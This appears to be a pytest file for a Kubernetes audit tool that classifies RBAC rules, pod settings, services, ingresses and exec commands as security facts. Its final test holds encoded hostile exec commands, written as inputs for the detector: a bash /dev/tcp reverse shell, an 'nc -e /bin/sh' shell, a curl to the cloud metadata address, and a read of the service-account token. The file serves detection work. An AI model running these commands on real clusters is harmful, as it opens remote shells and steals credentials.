"""What is kept of a body, by the kind of object that was written."""

from __future__ import annotations

from typing import Any

import pytest

from hipaa_kit.kube.audit.bodies import body_facts
from hipaa_kit.kube.audit.commands import command_facts

RBAC = "rbac.authorization.k8s.io"
BINDING = {
    "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [
        {"kind": "User", "name": "ada"},
        {"kind": "ServiceAccount", "name": "app", "namespace": "ehr"},
        {"kind": "Robot", "name": "x"},
        "nonsense",
    ],
}
BOUND = {"role_ref": "ClusterRole/cluster-admin", "bound": ["User//ada", "ServiceAccount/ehr/app"]}
POD = {
    "metadata": {"ownerReferences": [{"kind": "ReplicaSet", "name": "web-1", "controller": True}]},
    "spec": {
        "hostNetwork": True,
        "hostPID": "yes",
        "initContainers": [{"securityContext": {"privileged": True}}],
        "volumes": [{"hostPath": {"path": "/"}}, {"persistentVolumeClaim": {"claimName": "db"}}],
    },
}
OF_POD = {"pod_marks": ["hostNetwork", "hostPath", "privileged"], "claims": ["db"]}


def role(**rule: list[str]) -> dict[str, Any]:
    return {"rules": [{"verbs": [], "apiGroups": [""], "resources": [], **rule}]}


@pytest.mark.parametrize(
    ("group", "resource", "written", "expected"),
    [
        (RBAC, "clusterrolebindings", BINDING, BOUND),
        (RBAC, "roles", role(verbs=["*"], resources=["*"]), {"role_marks": ["exec", "secrets", "wildcard_resource", "wildcard_verb"]}),
        (RBAC, "roles", role(verbs=["escalate", "bind"], apiGroups=[RBAC], resources=["roles"]), {"role_marks": ["bind", "escalate"]}),
        (RBAC, "roles", role(verbs=["impersonate"], resources=["users"]), {"role_marks": ["impersonate"]}),
        (RBAC, "roles", role(verbs=["get"], resources=["secrets"]), {"role_marks": ["secrets"]}),
        (RBAC, "roles", role(verbs=["get"], apiGroups=["apps"], resources=["secrets"]), {}),
        (RBAC, "roles", role(verbs=["create"], resources=["pods/exec"]), {"role_marks": ["exec"]}),
        ("", "pods", POD, {**OF_POD, "owner": "ReplicaSet/web-1"}),
        ("apps", "deployments", {"spec": {"template": POD}}, OF_POD),
        ("extensions", "deployments", {"spec": {"template": POD}}, OF_POD),
        ("batch", "cronjobs", {"spec": {"jobTemplate": {"spec": {"template": POD}}}}, OF_POD),
        ("apps", "statefulsets", {"spec": {"volumeClaimTemplates": [{"metadata": {"name": "data"}}]}}, {"claims": ["data"]}),
        ("", "services", {"spec": {"type": "NodePort"}}, {"service_type": "NodePort"}),
        ("", "services", {"spec": {"ports": []}}, {"service_type": "ClusterIP"}),
        ("", "services", {"spec": {"type": "secret words"}}, {}),
        ("networking.k8s.io", "ingresses", {"spec": {"rules": [{"host": "a.b"}], "tls": [{"hosts": ["*.b"]}]}}, {"tls": True}),
        ("networking.k8s.io", "ingresses", {"spec": {"rules": [{"host": "a.b"}, {"host": "c.d"}], "tls": [{"hosts": ["a.b"]}]}}, {"tls": False}),
        ("networking.k8s.io", "ingresses", {"spec": {"defaultBackend": {"service": {}}}}, {"tls": False}),
        ("", "persistentvolumeclaims", {"spec": {"dataSource": {"kind": "VolumeSnapshot", "name": "s"}}}, {"data_source": "VolumeSnapshot/s"}),
        ("snapshot.storage.k8s.io", "volumesnapshots", {"spec": {"source": {"persistentVolumeClaimName": "db"}}}, {"data_source": "PersistentVolumeClaim/db"}),
        ("velero.io", "restores", {"spec": {"namespaceMapping": {"ehr": "mine"}}}, {"namespace_mapping": True}),
        ("velero.io", "restores", {"spec": {}}, {}),
        ("", "secrets", {"data": {"password": "x"}}, {}),
    ],
)  # fmt: skip
def test_what_is_kept_of_an_object(group: str, resource: str, written: dict, expected: dict) -> None:
    assert body_facts(group, resource, "", "create", written, None) == expected
    assert body_facts(group, resource, "", "patch", [{"op": "add"}], written) == expected
    assert body_facts(group, resource, "", "get", None, written) == {}
    assert body_facts(group, resource, "status", "update", written, None) == {}


def test_a_patch_without_its_answer_tells_what_stands_in_it() -> None:
    patch = {"spec": {"type": "LoadBalancer"}}
    assert body_facts("", "services", "", "patch", patch, {"kind": "Status"}) == {"service_type": "LoadBalancer"}


def test_a_name_that_the_server_made_is_taken_from_its_answer() -> None:
    answer = {"kind": "ConfigMap", "metadata": {"name": "app-x7z"}}
    assert body_facts("", "configmaps", "", "create", {"metadata": {"generateName": "app-"}}, answer) == {
        "name": "app-x7z"
    }
    assert body_facts("", "configmaps", "", "create", None, {"kind": "Status", "metadata": {"name": "no"}}) == {}


@pytest.mark.parametrize(
    "body", [None, 3, "text", [], [1], {"spec": 3}, {"metadata": []}, {"rules": "x", "subjects": {}}]
)
@pytest.mark.parametrize(
    ("group", "resource"),
    [(RBAC, "roles"), (RBAC, "rolebindings"), ("", "pods"), ("apps", "deployments"), ("velero.io", "restores")],
)
def test_bodies_of_other_shapes_tell_nothing(group: str, resource: str, body: Any) -> None:
    assert body_facts(group, resource, "", "create", body, body) == {}


@pytest.mark.parametrize(
    ("query", "programs", "marks"),
    [
        ("command=bash&stdin=true&tty=true", ["bash"], ["shell"]),
        ("c%6Fmmand=%2Fbin%2Fsh", ["sh"], ["shell"]),
        ("command=sh&command=-c&command=curl+http%3A%2F%2F169.254.169.254%2F", ["curl", "sh"], ["shell", "curl", "metadata_address"]),
        ("command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken", ["cat"], ["service_account_token"]),
        ("command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4444", ["bash"], ["shell", "reverse_shell"]),
        ("command=nc&command=-e&command=%2Fbin%2Fsh&command=10.0.0.1", ["nc", "sh"], ["shell", "reverse_shell"]),
        ("command=nc&command=-z&command=db&command=5432", ["nc"], []),
        ("command=%2Fopt%2Fown&command=hunter2", ["other"], []),
        ("command=wget&command=http://x", ["wget"], ["wget"]),
        ("container=web&stdout=true", [], []),
        ("", [], []),
    ],
)  # fmt: skip
def test_a_command_is_known_by_words_of_closed_lists(query: str, programs: list[str], marks: list[str]) -> None:
    assert command_facts(query) == (programs, marks)
